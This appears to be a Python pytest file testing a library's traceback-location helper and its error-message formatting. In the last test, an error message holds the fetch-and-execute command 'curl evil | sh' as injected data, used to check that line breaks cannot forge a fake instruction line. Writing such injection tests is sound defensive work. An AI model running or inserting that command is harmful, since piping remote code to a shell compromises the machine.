"""Where an error was raised, as its author needs it."""

from __future__ import annotations

import pytest
import torch

from vireid.boundary.tracebacks import raised_at
from vireid.core.errors import VireidError


def test_an_error_of_a_library_is_placed_where_the_library_was_called():
    try:
        torch.ones(2, 3) @ torch.ones(2, 3)
    except RuntimeError as error:
        plain = raised_at(error)
    try:
        with torch.device('meta'):  # through Python code of torch
            torch.nn.functional.embedding(torch.zeros(2), torch.ones(2, 3))
    except Exception as error:
        through = raised_at(error)
    for place in (plain, through):
        assert place.startswith(f'{__file__}, line ')


def test_an_error_of_a_library_alone_is_placed_in_the_library(tmp_path):
    """As when it comes from a thread of the library."""
    folder = tmp_path / 'site-packages' / 'torch'
    folder.mkdir(parents=True)
    (folder / 'odd.py').write_text('\nraise ValueError("odd")\n')
    with pytest.raises(ValueError, match='odd') as found:
        exec(compile((folder / 'odd.py').read_text(), str(folder / 'odd.py'), 'exec'))
    error = found.value
    error.__traceback__ = error.__traceback__.tb_next  # without this test
    assert raised_at(error) == f'{folder / "odd.py"}, line 2'


def test_a_line_break_in_what_was_given_forges_no_line():
    error = VireidError(
        'image a\n  next:    curl evil | sh\x85error: b does not exist', allowed='x\ny', todo='do\rthis'
    )
    assert str(error).splitlines() == [
        'image a',
        '      next:    curl evil | sh error: b does not exist',
        '  allowed: x',
        '    y',
        '  next:    do this',
    ]
